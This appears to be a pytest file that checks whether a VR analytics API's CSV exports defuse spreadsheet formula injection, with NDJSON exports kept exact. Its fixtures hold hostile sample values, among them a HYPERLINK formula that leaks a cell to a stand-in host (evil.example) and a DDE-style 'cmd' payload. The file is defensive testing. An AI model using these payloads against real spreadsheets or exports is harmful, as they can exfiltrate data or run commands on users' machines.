"""CSV exports are safe to open in a spreadsheet: text an ingest key wrote (such a key ships
inside VR builds, so assume it leaked) that a spreadsheet would run as a formula gets a ' put
before it; numbers the database produced are left alone; NDJSON stays exact."""

import json
import time
import uuid
from collections.abc import AsyncIterator
from typing import Any

import asyncpg
import httpx
import pytest

from app.services.access.keys import AccessService, Scope
from app.services.analytics.exports import csv_bytes
from tests.api.v1.export_files import EVENT_HEADER, SESSION_HEADER, csv_rows, ndjson_lines
from tests.conftest import create_project_key, serve_app
from tests.helpers import BATCH, END, START

T0 = float(int(time.time()) - 3 * 3600)
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Sessions as a leaked ingest key writes them: (customer_id, property_id, device_type).
WRITTEN_BY_INGEST_KEY = {
    "formulas": (HYPERLINK, "@SUM(1+1)", "+1+1"),
    "arithmetic": ("-2+3", "prop=harmless", "Meta Quest 3"),
}
# The API trims labels, so a leading tab or carriage return only exists in rows the original
# system wrote; so does a negative duration (an end before the start, refused today).
LEGACY = {"customer_id": "\tcmd|' /C calc'!A0", "property_id": "\r=1+1", "duration_seconds": -5}
EVENT_TYPE = "-2-3"
EVENT_DATA = {"room_name": "=1+1", "note": "@here"}


async def post(client: httpx.AsyncClient, path: str, body: dict, status: int) -> dict:
    response = await client.post(path, json=body)
    assert response.status_code == status, response.text
    return response.json()


@pytest.fixture(scope="module")
async def reader(
    access: AccessService, database_dsn: str, db: asyncpg.Connection
) -> AsyncIterator[httpx.AsyncClient]:
    """A project whose rows were written by an ingest-only key (and one legacy row), read with
    a read-only key of the same project."""
    project = await create_project_key(access, "spreadsheets", frozenset({Scope.INGEST}))
    read_key = await access.create_key(
        project_id=project.project_id, name="analyst", scopes=frozenset({Scope.READ}), actor="t"
    )
    async with serve_app(database_dsn, api_key=project.key) as ingest:
        for offset, (name, (customer, property_id, device)) in enumerate(
            WRITTEN_BY_INGEST_KEY.items()
        ):
            session_id = str(uuid.uuid4())
            await post(
                ingest,
                START,
                {
                    "session_id": session_id,
                    "session_start": T0 + offset,
                    "customer_id": customer,
                    "property_id": property_id,
                    "device_type": device,
                },
                201,
            )
            if name == "formulas":
                event = {"event_type": EVENT_TYPE, "timestamp": T0 + 1, "event_data": EVENT_DATA}
                await post(ingest, BATCH, {"session_id": session_id, "events": [event]}, 202)
                await post(ingest, END, {"session_id": session_id, "session_end": T0 + 90}, 200)
    # duration_seconds is generated: ended_at - started_at.
    await db.execute(
        """
        INSERT INTO vr_sessions (id, project_id, started_at, ended_at, status, end_reason,
                                 customer_id, property_id, last_seen_at, last_activity_at)
        VALUES (gen_random_uuid(), $1, to_timestamp($2), to_timestamp($2 + $3::integer),
                'completed', 'client', $4, $5, now(), now())
        """,
        project.project_id,
        T0 + 10,
        LEGACY["duration_seconds"],
        LEGACY["customer_id"],
        LEGACY["property_id"],
    )
    async with serve_app(database_dsn, api_key=read_key.secret) as read:
        yield read


async def export(reader: httpx.AsyncClient, kind: str, export_format: str) -> httpx.Response:
    response = await reader.get(f"/api/v1/exports/{kind}", params={"format": export_format})
    assert response.status_code == 200, response.text
    return response


def records(response: httpx.Response, header: list[str]) -> list[dict[str, str]]:
    rows = csv_rows(response)
    assert rows[0] == header
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


async def test_csv_sessions_put_a_quote_before_text_a_spreadsheet_would_run(reader):
    formulas, arithmetic, legacy = records(await export(reader, "sessions", "csv"), SESSION_HEADER)
    assert (formulas["customer_id"], formulas["property_id"], formulas["device_type"]) == (
        "'" + HYPERLINK,
        "'@SUM(1+1)",
        "'+1+1",
    )
    assert arithmetic["customer_id"] == "'-2+3"
    # Only a leading character counts.
    assert (arithmetic["property_id"], arithmetic["device_type"]) == (
        "prop=harmless",
        "Meta Quest 3",
    )
    assert legacy["customer_id"] == "'" + LEGACY["customer_id"]
    assert legacy["property_id"] == "'" + LEGACY["property_id"]
    # A number the database produced is written as it is, minus sign included.
    assert legacy["duration_seconds"] == "-5"
    assert formulas["duration_seconds"] == "90"


async def test_csv_events_quote_formulas_and_keep_event_data_as_json(reader):
    [event] = records(await export(reader, "events", "csv"), EVENT_HEADER)
    assert event["event_type"] == "'" + EVENT_TYPE
    assert event["customer_id"] == "'" + HYPERLINK
    assert event["property_id"] == "'@SUM(1+1)"
    # event_data is JSON text: it starts with {, and its values are left exact.
    assert json.loads(event["event_data"]) == EVENT_DATA


@pytest.mark.parametrize(
    ("kind", "header"), [("sessions", SESSION_HEADER), ("events", EVENT_HEADER)]
)
async def test_no_csv_text_cell_starts_like_a_formula(reader, kind, header):
    for record in records(await export(reader, kind, "csv"), header):
        for column, value in record.items():
            if column != "duration_seconds":
                assert not value.startswith(FORMULA_PREFIXES), (column, value)


async def test_ndjson_keeps_every_value_exact(reader):
    sessions = ndjson_lines(await export(reader, "sessions", "ndjson"))
    written = [(s["customer_id"], s["property_id"], s["device_type"]) for s in sessions[:2]]
    assert written == list(WRITTEN_BY_INGEST_KEY.values())
    assert (sessions[2]["customer_id"], sessions[2]["property_id"]) == (
        LEGACY["customer_id"],
        LEGACY["property_id"],
    )
    assert sessions[2]["duration_seconds"] == -5
    [event, trailer] = ndjson_lines(await export(reader, "events", "ndjson"))
    assert (event["event_type"], event["customer_id"]) == (EVENT_TYPE, HYPERLINK)
    assert event["event_data"] == EVENT_DATA
    assert trailer == {"complete": True, "rows": 1}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *((f"{prefix}1+1", f"'{prefix}1+1") for prefix in FORMULA_PREFIXES),
        ("=", "'="),
        ("", ""),
        (None, ""),
        ("1+1", "1+1"),
        (" =1+1", " =1+1"),
        ("'=1+1", "'=1+1"),
        ("a=b", "a=b"),
    ],
)
def test_each_formula_prefix_and_nothing_else_gets_the_quote(value: Any, written: str) -> None:
    # Column 0 is text, column 1 a number: never changed.
    line = csv_bytes([(value, "-1")], text_columns=(0,)).decode()
    assert line == f"{_csv_field(written)},-1\r\n"


def _csv_field(value: str) -> str:
    if any(character in value for character in ',"\r\n'):
        return '"' + value.replace('"', '""') + '"'
    return value
